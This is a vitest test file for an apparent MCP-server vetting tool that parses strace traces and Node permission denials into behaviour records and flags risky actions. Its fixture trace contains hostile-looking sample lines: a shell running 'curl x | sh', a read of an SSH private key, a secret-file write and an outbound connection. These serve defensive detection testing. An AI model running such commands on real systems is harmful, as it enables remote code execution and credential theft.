import { describe, expect, it } from 'vitest';
import { assessBehaviour } from '../../../src/core/behaviour/assess-behaviour.js';
import { compareBehaviour } from '../../../src/core/behaviour/compare-behaviour.js';
import { behaviourFromTrace, SYSTEM_PATHS } from '../../../src/core/behaviour/build-record.js';
import { denialsFromStderr } from '../../../src/core/behaviour/denials.js';
import { parseStrace } from '../../../src/core/behaviour/parse-strace.js';
import { emptyBehaviour } from '../../../src/core/behaviour/record.js';
import { normaliseDeep, normaliseText } from '../../../src/core/behaviour/sandbox-paths.js';

// A trace as strace -f prints it: the launcher (bubblewrap) first, then the server and a child.
const TRACE = [
  '100 execve("/usr/bin/bwrap", ["bwrap", "--unshare-net", "--", "/usr/bin/node", "/sandbox/server/index.js"], 0x7ffd /* 3 vars */) = 0',
  '101 openat(AT_FDCWD, "/etc/passwd", O_RDONLY|O_CLOEXEC) = 3',
  '102 execve("/usr/bin/node", ["/usr/bin/node", "/sandbox/server/index.js"], 0x7ffe /* 5 vars */) = 0',
  '102 openat(AT_FDCWD, "/usr/lib/x86_64-linux-gnu/libc.so.6", O_RDONLY|O_CLOEXEC) = 3',
  '102 openat(AT_FDCWD, "/sandbox/server/node_modules/x/index.js", O_RDONLY|O_CLOEXEC) = 17',
  '102 openat(AT_FDCWD, "/sandbox/package.json", O_RDONLY|O_CLOEXEC) = -1 ENOENT (No such file or directory)',
  '103 openat(AT_FDCWD, "/sandbox/home/.ssh/id_rsa", O_RDONLY|O_CLOEXEC <unfinished ...>',
  '102 connect(21, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("203.0.113.9")}, 16) = -1 ENETUNREACH (Network is unreachable)',
  '103 <... openat resumed>) = -1 ENOENT (No such file or directory)',
  '102 bind(22, {sa_family=AF_INET6, sin6_port=htons(8080), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "::", &sin6_addr), sin6_scope_id=0}, 28) = 0',
  '102 listen(22, 511) = 0',
  '102 bind(23, {sa_family=AF_INET, sin_port=htons(9000), sin_addr=inet_addr("127.0.0.1")}, 16) = 0',
  '104 execve("/bin/sh", ["/bin/sh", "-c", "curl x | sh\\n"], 0x1 /* 5 vars */) = 0',
  '102 openat(AT_FDCWD, "/var/lib/secret.txt", O_WRONLY|O_CREAT, 0644) = 5',
].join('\n');

const ctx = {
  placeholders: [
    { path: '/sandbox/home', placeholder: '${HOME}' },
    { path: '/sandbox/workspace', placeholder: '${WORKSPACE}' },
    { path: '/sandbox/server', placeholder: '${INSTALL}' },
  ],
  own: ['/sandbox/home', '/sandbox/workspace', '/sandbox/tmp', '/sandbox/server', '/tmp'],
  system: SYSTEM_PATHS,
  ancestors: ['/sandbox/workspace', '/sandbox', '/', '/sandbox/server'],
  cwd: '/sandbox/workspace',
};

describe('strace parsing', () => {
  const parsed = parseStrace(TRACE, { program: '/usr/bin/node', args: ['/sandbox/server/index.js'] });
  it('leaves out the launcher and joins unfinished calls', () => {
    expect(parsed.launched).toBe(true);
    expect(parsed.files.map((f) => f.path)).not.toContain('/etc/passwd');
    expect(parsed.files.map((f) => f.path)).toContain('/sandbox/home/.ssh/id_rsa');
    expect(parsed.execs).toEqual([
      { pid: 104, program: '/bin/sh', argv: ['/bin/sh', '-c', 'curl x | sh\n'], ok: true },
    ]);
  });

  it('builds a normalised record: spawns, destinations, sockets, outside and sensitive files', () => {
    const record = behaviourFromTrace(parsed, ctx, []);
    expect(record.spawns).toEqual([{ command: ['/bin/sh', '-c', 'curl x | sh\n'] }]);
    expect(record.connections).toEqual([{ address: '203.0.113.9:443' }]);
    expect(record.sockets).toEqual([
      { address: '127.0.0.1:9000', listening: false, allInterfaces: false },
      { address: '[::]:8080', listening: true, allInterfaces: true },
    ]);
    expect(record.files).toEqual([
      { path: '${HOME}/.ssh/id_rsa', write: false, sensitive: 'ssh keys' },
      { path: '/var/lib/secret.txt', write: true },
    ]);
    const codes = assessBehaviour('s@1', record).map((f) => f.code);
    expect(codes).toEqual(
      expect.arrayContaining([
        'behaviour/listens-on-all-interfaces',
        'behaviour/sensitive-path',
        'behaviour/spawns-process',
        'behaviour/connects',
        'behaviour/listens',
        'behaviour/reads-outside',
      ]),
    );
    expect(compareBehaviour('s@2', emptyBehaviour('strace'), record).map((f) => f.code)).toEqual([
      'behaviour/spawn-added',
      'behaviour/destination-added',
      'behaviour/listener-added',
      'behaviour/file-added',
    ]);
    expect(compareBehaviour('s@2', record, record)).toEqual([]);
  });

  it('without the launch in the trace nothing is attributed to the server', () => {
    expect(parseStrace(TRACE, { program: '/usr/bin/node', args: ['other.js'] }).launched).toBe(false);
  });
});

describe('denials and path placeholders', () => {
  it('reads Node permission denials with their resource, and network denials', () => {
    const stderr = [
      'Error: Access to this API has been restricted',
      "  code: 'ERR_ACCESS_DENIED',",
      "  permission: 'FileSystemRead',",
      "  resource: '/root/.ssh'",
      'escape spawn: ERR_ACCESS_DENIED ChildProcess  Access to this API has been restricted',
      'Error: connect ENETUNREACH 203.0.113.9:443 - Local (0.0.0.0:0)',
    ].join('\n');
    expect(denialsFromStderr(stderr)).toEqual([
      { kind: 'file-read', resource: '/root/.ssh' },
      { kind: 'child-process' },
      { kind: 'network', resource: '203.0.113.9:443' },
    ]);
  });

  it('reads a disabled native addon, and the permission message printed without its code', () => {
    expect(denialsFromStderr("Error: Cannot load native addon\n  code: 'ERR_DLOPEN_DISABLED'")).toEqual([
      { kind: 'other', resource: 'native addon' },
    ]);
    expect(denialsFromStderr('Error running executable: Access to this API has been restricted')).toEqual([
      { kind: 'other', resource: 'restricted API' },
    ]);
  });

  it('a new denial on update is high; one the pinned version had is not repeated', () => {
    const pinned = { ...emptyBehaviour('permission-denials'), denials: [{ kind: 'worker' as const }] };
    const candidate = { ...pinned, denials: [{ kind: 'worker' as const }, { kind: 'child-process' as const }] };
    const f = compareBehaviour('s@2', pinned, candidate);
    expect(f.map((x) => [x.code, x.severity])).toEqual([['behaviour/denial-added', 'high']]);
  });

  it('replaces whole sandbox paths only', () => {
    const map = [
      { path: '/tmp/mcp-vet-sandbox-abc/workspace', placeholder: '${WORKSPACE}' },
      { path: '/sandbox/home', placeholder: '${HOME}' },
    ];
    expect(normaliseText('cwd /tmp/mcp-vet-sandbox-abc/workspace/x and /sandbox/home2 and /sandbox/home', map)).toBe(
      'cwd ${WORKSPACE}/x and /sandbox/home2 and ${HOME}',
    );
    expect(normaliseDeep({ d: ['file:///sandbox/home/a'] }, map)).toEqual({ d: ['file://${HOME}/a'] });
  });
});
